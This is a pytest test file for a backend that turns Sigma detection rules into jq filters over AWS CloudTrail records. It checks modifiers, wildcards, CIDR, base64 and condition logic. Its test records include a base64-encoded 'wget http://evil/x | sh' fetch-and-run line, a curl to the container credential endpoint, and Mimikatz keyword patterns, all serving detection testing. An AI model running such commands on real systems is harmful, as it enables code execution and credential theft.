"""JqBackend: one test per Sigma modifier and condition form, with the verdict the Sigma
specification (and docs/sigma.md where the specification leaves the choice to the backend)
gives, checked through libjq and the native evaluator alike; then the shape of the jq (index
gates, no libjq) and what is refused."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from sigma.collection import SigmaCollection
from sigma.exceptions import SigmaError

from tattletail.native import compile_native
from tattletail.rules import RuleSet, RuleSource
from tattletail.sigma.backend import JqBackend
from tests.sigma_support import jq_of, rule_yaml, verdict


def sel(**fields: Any) -> dict[str, Any]:
    """A detection with one selection of these fields (`__` in a keyword stands for `|`)."""
    return {
        "selection": {k.replace("__", "|"): v for k, v in fields.items()},
        "condition": "selection",
    }


def check(detection: dict[str, Any], cases: list[tuple[dict[str, Any], bool]]) -> None:
    program = jq_of(detection)
    got = [(record, verdict(program, record)) for record, _ in cases]
    assert got == cases, program


# -- strings: case, wildcards, escapes -------------------------------------------------------------


def test_plain_values_match_whole_values_ignoring_ascii_case() -> None:
    check(
        sel(eventName="CreateUser"),
        [
            ({"eventName": "CreateUser"}, True),
            ({"eventName": "createuser"}, True),
            ({"eventName": "CREATEUSER"}, True),
            ({"eventName": "CreateUsers"}, False),
            ({"eventName": "XCreateUser"}, False),
            ({}, False),
            ({"eventName": None}, False),
        ],
    )


def test_case_folding_is_ascii_only() -> None:
    # docs/sigma.md: jq's ascii_downcase folds A-Z; other letters match only as written.
    check(
        sel(userAgent="Éclair-ß"),
        [
            ({"userAgent": "Éclair-ß"}, True),
            ({"userAgent": "ÉCLAIR-ß"}, True),
            ({"userAgent": "éclair-ß"}, False),
            ({"userAgent": "Éclair-SS"}, False),
        ],
    )


def test_cased_matches_case_sensitively() -> None:
    check(
        sel(eventName__cased="CreateUser"),
        [
            ({"eventName": "CreateUser"}, True),
            ({"eventName": "createuser"}, False),
        ],
    )


def test_star_matches_any_run_of_characters() -> None:
    check(
        sel(eventName="Create*"),
        [
            ({"eventName": "Create"}, True),
            ({"eventName": "createAccessKey"}, True),
            ({"eventName": "DeleteUser"}, False),
        ],
    )
    check(
        sel(eventName="Cr*er"),
        [
            ({"eventName": "Crer"}, True),
            ({"eventName": "CreateUser"}, True),
            ({"eventName": "Cre"}, False),  # the two ends may not overlap
            ({"eventName": "Creer!"}, False),
        ],
    )
    check(
        sel(eventName="*a*b*c"),
        [
            ({"eventName": "xAyBzC"}, True),
            ({"eventName": "abc"}, True),
            ({"eventName": "acb"}, False),
            ({"eventName": "abc\n"}, False),
        ],
    )


def test_question_mark_matches_exactly_one_character() -> None:
    check(
        sel(eventName="Create?ser"),
        [
            ({"eventName": "CreateUser"}, True),
            ({"eventName": "Create\nser"}, True),
            ({"eventName": "Createser"}, False),
            ({"eventName": "CreateUUser"}, False),
            ({"eventName": "CreateUser\n"}, False),
        ],
    )


def test_star_alone_matches_any_value_but_not_null_or_missing() -> None:
    check(
        sel(errorCode="*"),
        [
            ({"errorCode": "AccessDenied"}, True),
            ({"errorCode": ""}, True),
            ({"errorCode": 0}, True),
            ({"errorCode": None}, False),
            ({}, False),
        ],
    )


def test_empty_string_matches_only_an_empty_value() -> None:
    check(sel(errorCode=""), [({"errorCode": ""}, True), ({}, False), ({"errorCode": " "}, False)])


def test_escaped_wildcards_and_backslashes() -> None:
    # Specification, "Escape Character".
    check(sel(userAgent="a\\*b"), [({"userAgent": "a*b"}, True), ({"userAgent": "axb"}, False)])
    check(sel(userAgent="a\\?"), [({"userAgent": "a?"}, True), ({"userAgent": "ab"}, False)])
    check(  # a plain backslash: one or two are the same
        sel(userAgent="C:\\Windows"), [({"userAgent": "C:\\Windows"}, True)]
    )
    check(
        sel(userAgent="C:\\\\Windows"),
        [({"userAgent": "C:\\Windows"}, True), ({"userAgent": "C:\\\\Windows"}, False)],
    )
    check(  # `\\*`: a backslash, then a wildcard
        sel(userAgent="a\\\\*"),
        [
            ({"userAgent": "a\\xyz"}, True),
            ({"userAgent": "a\\"}, True),
            ({"userAgent": "a*"}, False),
        ],
    )
    check(  # `\\\*`: a backslash, then a literal star
        sel(userAgent="a\\\\\\*"),
        [({"userAgent": "a\\*"}, True), ({"userAgent": "a\\x"}, False)],
    )


def test_a_list_of_values_is_an_or_and_all_makes_it_an_and() -> None:
    check(
        sel(eventName=["CreateUser", "DeleteUser"]),
        [({"eventName": "deleteuser"}, True), ({"eventName": "GetUser"}, False)],
    )
    check(
        sel(userAgent__contains__all=["aws-cli", "Python"]),
        [
            ({"userAgent": "aws-cli/2.1 Python/3.11"}, True),
            ({"userAgent": "aws-cli/2.1"}, False),
        ],
    )


def test_all_with_a_single_value_is_that_value() -> None:
    detection = {"selection": {"userAgent|contains|all": ["aws-cli"]}, "condition": "selection"}
    check(detection, [({"userAgent": "AWS-CLI/2"}, True), ({"userAgent": "boto3"}, False)])


def test_contains_startswith_endswith() -> None:
    check(
        sel(userAgent__contains="Browser"),
        [({"userAgent": "S3 browser 9.1"}, True), ({"userAgent": "Brows"}, False)],
    )
    check(
        sel(userAgent__startswith="aws-cli/"),
        [({"userAgent": "AWS-CLI/2 x"}, True), ({"userAgent": "x aws-cli/"}, False)],
    )
    check(
        sel(userAgent__endswith=".exe"),
        [({"userAgent": "a.EXE"}, True), ({"userAgent": "a.exe "}, False)],
    )
    check(  # wildcards inside a contains value stay wildcards
        sel(userAgent__contains="a*b"),
        [({"userAgent": "xxa--bxx"}, True), ({"userAgent": "ba"}, False)],
    )


# -- regular expressions ----------------------------------------------------------------------


def test_re_is_case_sensitive_and_unanchored() -> None:
    check(
        sel(**{"userIdentity.arn__re": ".+:assumed-role/aws:.+"}),
        [
            ({"userIdentity": {"arn": "arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1"}}, True),
            ({"userIdentity": {"arn": "arn:aws:sts::1:assumed-role/AWS:ec2"}}, False),
            ({"userIdentity": {"arn": "arn:aws:iam::1:user/bob"}}, False),
        ],
    )


def test_re_sub_modifiers_i_m_s() -> None:
    check(sel(userAgent__re__i="^boto3"), [({"userAgent": "Boto3/1"}, True)])
    check(sel(userAgent__re="^boto3"), [({"userAgent": "Boto3/1"}, False)])
    # m: ^ and $ at line boundaries; s: . matches a newline. Outside the native regex subset:
    # libjq answers for the records that reach them.
    multiline = jq_of(sel(userAgent__re__m="^b$"))
    assert verdict(multiline, {"userAgent": "a\nb\nc"}, native_required=False)
    assert not verdict(jq_of(sel(userAgent__re="^b$")), {"userAgent": "a\nb\nc"})
    dotall = jq_of(sel(userAgent__re__s="a.b"))
    assert verdict(dotall, {"userAgent": "a\nb"}, native_required=False)
    assert not verdict(jq_of(sel(userAgent__re="a.b")), {"userAgent": "a\nb"})


# -- CIDR ----------------------------------------------------------------------


def test_cidr_ipv4_edges() -> None:
    check(
        sel(sourceIPAddress__cidr="10.0.0.0/8"),
        [
            ({"sourceIPAddress": "10.0.0.0"}, True),
            ({"sourceIPAddress": "10.255.255.255"}, True),
            ({"sourceIPAddress": "9.255.255.255"}, False),
            ({"sourceIPAddress": "11.0.0.0"}, False),
            ({"sourceIPAddress": "10.0.0.256"}, False),
            ({"sourceIPAddress": "010.0.0.1"}, False),  # leading zeros: not an address
            ({"sourceIPAddress": "10.0.0.1\n"}, False),
            ({"sourceIPAddress": "AWS Internal"}, False),
            ({"sourceIPAddress": "::ffff:10.0.0.1"}, False),  # an IPv6 address
        ],
    )
    check(
        sel(sourceIPAddress__cidr="172.16.0.0/12"),
        [
            ({"sourceIPAddress": "172.16.0.1"}, True),
            ({"sourceIPAddress": "172.31.255.255"}, True),
            ({"sourceIPAddress": "172.32.0.0"}, False),
            ({"sourceIPAddress": "172.15.255.255"}, False),
        ],
    )
    check(
        sel(sourceIPAddress__cidr="192.0.2.7/32"),
        [({"sourceIPAddress": "192.0.2.7"}, True), ({"sourceIPAddress": "192.0.2.8"}, False)],
    )
    check(
        sel(sourceIPAddress__cidr="0.0.0.0/0"),
        [({"sourceIPAddress": "255.255.255.255"}, True), ({"sourceIPAddress": "::1"}, False)],
    )


def test_cidr_ipv6_every_text_form() -> None:
    check(
        sel(sourceIPAddress__cidr="2001:db8::/32"),
        [
            ({"sourceIPAddress": "2001:db8::1"}, True),
            ({"sourceIPAddress": "2001:DB8:0:0:0:0:0:1"}, True),
            ({"sourceIPAddress": "2001:0db8::"}, True),
            ({"sourceIPAddress": "2001:db8:ffff:ffff:ffff:ffff:255.255.255.255"}, True),
            ({"sourceIPAddress": "2001:db9::1"}, False),
            ({"sourceIPAddress": "2001::db8:1"}, False),
            ({"sourceIPAddress": "2001:db8::1%eth0"}, False),
            ({"sourceIPAddress": "10.0.0.1"}, False),
        ],
    )
    check(
        sel(sourceIPAddress__cidr="::ffff:0:0/96"),
        [
            ({"sourceIPAddress": "::ffff:10.0.0.1"}, True),
            ({"sourceIPAddress": "::FFFF:a00:1"}, True),
            ({"sourceIPAddress": "::fffe:10.0.0.1"}, False),
        ],
    )


# -- exists, null, field references ----------------------------------------------------------------


def test_exists_checks_presence_even_of_a_null() -> None:
    # Specification: "only verifies the presence of a field, not its value, be it empty or null".
    check(
        sel(errorCode__exists=True),
        [({"errorCode": None}, True), ({"errorCode": "x"}, True), ({}, False)],
    )
    check(
        sel(errorCode__exists=False),
        [({"errorCode": None}, False), ({}, True)],
    )
    check(
        sel(**{"userIdentity.sessionContext.ec2RoleDelivery__exists": True}),
        [
            ({"userIdentity": {"sessionContext": {"ec2RoleDelivery": "2.0"}}}, True),
            ({"userIdentity": {"sessionContext": {}}}, False),
            ({"userIdentity": "x"}, False),
        ],
    )


def test_null_matches_a_missing_or_null_field() -> None:
    check(
        sel(errorCode=None),
        [
            ({}, True),
            ({"errorCode": None}, True),
            ({"errorCode": []}, True),
            ({"errorCode": ""}, False),
            ({"errorCode": "AccessDenied"}, False),
        ],
    )
    detection = {
        "selection": {"eventName": "DeleteBucket"},
        "filter": {"errorCode": None},
        "condition": "selection and not filter",
    }
    check(
        detection,
        [
            ({"eventName": "DeleteBucket", "errorCode": "AccessDenied"}, True),
            ({"eventName": "DeleteBucket"}, False),
        ],
    )


def test_fieldref_compares_two_fields() -> None:
    check(
        sel(**{"userIdentity.userName__fieldref": "requestParameters.userName"}),
        [
            ({"userIdentity": {"userName": "Bob"}, "requestParameters": {"userName": "bob"}}, True),
            (
                {"userIdentity": {"userName": "bob"}, "requestParameters": {"userName": "eve"}},
                False,
            ),
            ({"userIdentity": {}, "requestParameters": {}}, False),  # null never equals null
        ],
    )
    check(
        sel(**{"userIdentity.arn__fieldref__endswith": "requestParameters.userName"}),
        [
            (
                {
                    "userIdentity": {"arn": "arn:aws:iam::1:user/Bob"},
                    "requestParameters": {"userName": "bob"},
                },
                True,
            ),
            (
                {
                    "userIdentity": {"arn": "arn:aws:iam::1:user/bob"},
                    "requestParameters": {"userName": "eve"},
                },
                False,
            ),
        ],
    )
    check(
        sel(**{"userAgent__fieldref__startswith": "requestParameters.prefix"}),
        [
            ({"userAgent": "aws-cli/2", "requestParameters": {"prefix": "AWS"}}, True),
            ({"userAgent": "aws-cli/2", "requestParameters": {"prefix": "cli"}}, False),
        ],
    )
    check(
        sel(**{"userAgent__fieldref__contains": "requestParameters.part"}),
        [
            ({"userAgent": "aws-cli/2", "requestParameters": {"part": "CLI"}}, True),
            ({"userAgent": "aws-cli/2", "requestParameters": {"part": "sdk"}}, False),
        ],
    )


# -- encodings and numbers ----------------------------------------------------------------------


def test_base64_and_base64offset() -> None:
    encoded = base64.b64encode(b"curl").decode()
    check(
        sel(**{"requestParameters.userData__base64": "curl"}),
        [
            ({"requestParameters": {"userData": encoded}}, True),
            ({"requestParameters": {"userData": "curl"}}, False),
        ],
    )
    script = base64.b64encode(b"#!/bin/bash\nwget http://evil/x | sh").decode()
    check(
        sel(**{"requestParameters.userData__base64offset__contains": "http://"}),
        [
            ({"requestParameters": {"userData": script}}, True),
            ({"requestParameters": {"userData": base64.b64encode(b"echo hi").decode()}}, False),
        ],
    )


def test_numeric_comparisons() -> None:
    field = "requestParameters.maxResults"
    for modifier, threshold, matches in [
        ("gt", 5, [6]),
        ("gte", 5, [5, 6]),
        ("lt", 5, [4]),
        ("lte", 5, [4, 5]),
    ]:
        records = [{"requestParameters": {"maxResults": n}} for n in (4, 5, 6)]
        records.append({"requestParameters": {"maxResults": "6"}})  # a string is not a number
        records.append({"requestParameters": {"maxResults": True}})
        check(
            sel(**{f"{field}__{modifier}": threshold}),
            [
                (
                    r,
                    r["requestParameters"]["maxResults"] in matches
                    and r["requestParameters"]["maxResults"] is not True
                    and not isinstance(r["requestParameters"]["maxResults"], str),
                )
                for r in records
            ],
        )


def test_strings_match_json_booleans_and_numbers_on_their_text() -> None:
    check(
        sel(**{"responseElements.publiclyAccessible": "true"}),
        [
            ({"responseElements": {"publiclyAccessible": True}}, True),
            ({"responseElements": {"publiclyAccessible": "TRUE"}}, True),
            ({"responseElements": {"publiclyAccessible": False}}, False),
        ],
    )
    check(
        sel(**{"requestParameters.fromPort": 22}),
        [
            ({"requestParameters": {"fromPort": 22}}, True),
            ({"requestParameters": {"fromPort": "22"}}, True),
            ({"requestParameters": {"fromPort": 220}}, False),
        ],
    )
    check(
        sel(**{"requestParameters.enable": False}),
        [({"requestParameters": {"enable": False}}, True), ({"requestParameters": {}}, False)],
    )


def test_objects_match_on_their_json_text_and_arrays_on_each_element() -> None:
    check(
        sel(requestParameters__contains="Suspended"),
        [
            ({"requestParameters": {"VersioningConfiguration": {"Status": "Suspended"}}}, True),
            ({"requestParameters": {"VersioningConfiguration": {"Status": "Enabled"}}}, False),
        ],
    )
    check(
        sel(requestParameters__contains='"status":"suspended"'),
        [({"requestParameters": {"Status": "Suspended"}}, True)],
    )
    check(
        sel(**{"requestParameters.layers__contains": "*"}),
        [
            ({"requestParameters": {"layers": ["arn:aws:lambda:x:1:layer:l:1"]}}, True),
            ({"requestParameters": {"layers": []}}, False),
            ({"requestParameters": {"layers": [None]}}, False),
        ],
    )
    check(
        sel(**{"requestParameters.containerDefinitions.command__contains": "$AWS_CONTAINER"}),
        [
            (
                {
                    "requestParameters": {
                        "containerDefinitions": [
                            {"command": ["sh"]},
                            {"command": ["sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_X"]},
                        ]
                    }
                },
                True,
            ),
            ({"requestParameters": {"containerDefinitions": [{"command": ["sh"]}]}}, False),
        ],
    )


def test_arrays_are_not_walked_inside_user_identity() -> None:
    check(
        sel(**{"userIdentity.type": "Root"}),
        [
            ({"userIdentity": {"type": "Root"}}, True),
            ({"userIdentity": {"type": ["IAMUser", "Root"]}}, True),  # at the end: each element
            ({"userIdentity": [{"type": "Root"}]}, False),
            ({"userIdentity": "Root"}, False),
        ],
    )


def test_keywords_match_anywhere_in_the_records_json_text() -> None:
    detection = {"keywords": ["evil.exe", "Mimi*katz"], "condition": "keywords"}
    check(
        detection,
        [
            ({"requestParameters": {"cmd": ["run", "EVIL.EXE /x"]}}, True),
            ({"userAgent": "mimi-and-katz"}, True),
            ({"userAgent": "evil.ex"}, False),
        ],
    )


# -- conditions ----------------------------------------------------------------------

SELECTIONS: dict[str, Any] = {
    "sel_create": {"eventName": "CreateUser"},
    "sel_iam": {"eventSource": "iam.amazonaws.com"},
    "filter_terraform": {"userAgent|contains": "Terraform"},
}
RECORDS = [
    {"eventName": "CreateUser", "eventSource": "iam.amazonaws.com", "userAgent": "aws-cli"},
    {"eventName": "CreateUser", "eventSource": "iam.amazonaws.com", "userAgent": "Terraform/1"},
    {"eventName": "CreateUser", "eventSource": "sso.amazonaws.com", "userAgent": "aws-cli"},
    {"eventName": "DeleteUser", "eventSource": "iam.amazonaws.com", "userAgent": "aws-cli"},
    {"eventName": "DeleteUser", "eventSource": "sts.amazonaws.com", "userAgent": "Terraform"},
]


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("sel_create and sel_iam", [True, True, False, False, False]),
        ("sel_create or sel_iam", [True, True, True, True, False]),
        ("not sel_create", [False, False, False, True, True]),
        ("sel_create and not filter_terraform", [True, False, True, False, False]),
        ("(sel_create or sel_iam) and not filter_terraform", [True, False, True, True, False]),
        ("sel_create and (sel_iam or filter_terraform)", [True, True, False, False, False]),
        ("1 of sel_*", [True, True, True, True, False]),
        ("all of sel_*", [True, True, False, False, False]),
        ("1 of them", [True, True, True, True, True]),
        ("all of them", [False, True, False, False, False]),
        ("all of sel_c*", [True, True, True, False, False]),  # one selection: itself
        ("1 of sel_* and not 1 of filter_*", [True, False, True, True, False]),
        ("not (sel_create or sel_iam)", [False, False, False, False, True]),
    ],
)
def test_conditions(condition: str, expected: list[bool]) -> None:
    check({**SELECTIONS, "condition": condition}, list(zip(RECORDS, expected, strict=True)))


def test_a_list_of_maps_is_an_or_and_a_list_of_conditions_too() -> None:
    check(
        {
            "selection": [{"eventName": "CreateUser"}, {"eventSource": "sts.amazonaws.com"}],
            "condition": "selection",
        },
        list(zip(RECORDS, [True, True, True, False, True], strict=True)),
    )
    check(
        {**SELECTIONS, "condition": ["sel_create and not sel_iam", "filter_terraform"]},
        list(zip(RECORDS, [False, True, True, False, True], strict=True)),
    )


def test_neq_negates_the_item() -> None:
    check(
        sel(eventName__neq="CreateUser"),
        [({"eventName": "createuser"}, False), ({"eventName": "DeleteUser"}, True), ({}, True)],
    )


def test_field_names_are_spelled_as_cloudtrail_writes_them() -> None:
    detection = {"selection": {"EventName": "CreateUser", "USERIDENTITY.ARN|contains": ":user/"}}
    detection["condition"] = "selection"
    program = jq_of(detection)
    assert ".eventName" in program and ".userIdentity.arn?" in program
    assert verdict(
        program, {"eventName": "CreateUser", "userIdentity": {"arn": "arn:aws:iam::1:user/b"}}
    )


# -- the shape of the jq ----------------------------------------------------------------------


def test_indexed_fields_go_first_in_a_select_of_their_own() -> None:
    program = jq_of(
        {
            "selection": {"eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey"},
            "filter": {"userAgent|contains": "terraform"},
            "condition": "selection and not filter",
        }
    )
    gate, rest = program.split("\n| select(", 1)
    assert "eventSource" in gate and "eventName" in gate and "userAgent" not in gate
    assert "userAgent" in rest and "eventName" not in rest
    (rule,) = RuleSet([RuleSource("r", program)]).rules
    assert rule.key_gate is not None and not rule.decided_by_key
    assert set(rule.key_gate.reads or ()) == {("eventName",), ("eventSource",)}


def test_a_rule_on_indexed_fields_alone_is_decided_once_per_index_key() -> None:
    program = jq_of(
        {
            "selection": {"eventName": "DeleteBucket"},
            "success": {"errorCode": None},
            "condition": "selection and success",
        }
    )
    (rule,) = RuleSet([RuleSource("r", program)]).rules
    assert rule.decided_by_key
    # An OR of selections with an indexed part each is gated on the OR of those parts.
    program = jq_of(
        {
            "a": {"eventName": "CreateUser", "userAgent|contains": "x"},
            "b": {"eventName": "DeleteUser", "userAgent|contains": "y"},
            "condition": "1 of them",
        }
    )
    (rule,) = RuleSet([RuleSource("r", program)]).rules
    assert rule.key_gate is not None
    assert verdict(program, {"eventName": "CreateUser", "userAgent": "x"})
    assert not verdict(program, {"eventName": "CreateUser", "userAgent": "y"})


def test_every_supported_form_compiles_natively() -> None:
    detections = [
        sel(eventName="a*b?c"),
        sel(sourceIPAddress__cidr="2001:db8::/48"),
        sel(**{"requestParameters.x__gte": 3}),
        sel(**{"a.b__fieldref__contains": "c.d"}),
        {"keywords": ["x"], "condition": "keywords"},
        sel(errorCode__exists=False),
    ]
    for detection in detections:
        program = jq_of(detection)
        native = compile_native(program)
        assert native is not None and native.evaluable, program


# -- refused ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("detection", "logsource", "message"),
    [
        (sel(**{"eventTime|hour": 3}), None, "time modifiers"),
        (sel(eventName__expand="%names%"), None, "placeholder"),
        (sel(eventName="x"), {"product": "windows", "category": "process_creation"}, "not AWS"),
        (sel(userAgent__re="(?P<tool>curl)"), None, "jq \\(Oniguruma\\) rejects"),
    ],
)
def test_unsupported_forms_are_refused_with_their_construct(
    detection: dict[str, Any], logsource: dict[str, str] | None, message: str
) -> None:
    text = rule_yaml(detection, **({"logsource": logsource} if logsource else {}))
    (rule,) = SigmaCollection.from_yaml(text).rules
    with pytest.raises(SigmaError, match=message):
        JqBackend().jq_program(rule)


def test_field_names_of_any_spelling_are_read_as_written() -> None:
    # Keys that are not jq identifiers, that are jq keywords, or that hold quotes and `\(`.
    for field, record in [
        ('requestParameters.a b.c"d\\(x)', {"requestParameters": {"a b": {'c"d\\(x)': "X"}}}),
        ("requestParameters.if.and", {"requestParameters": {"if": [{"and": "x"}]}}),
        ("requestParameters.é", {"requestParameters": {"é": "x"}}),
        ("userIdentity.as", {"userIdentity": {"as": "x"}}),
    ]:
        assert verdict(jq_of({"selection": {field: "x"}, "condition": "selection"}), record)
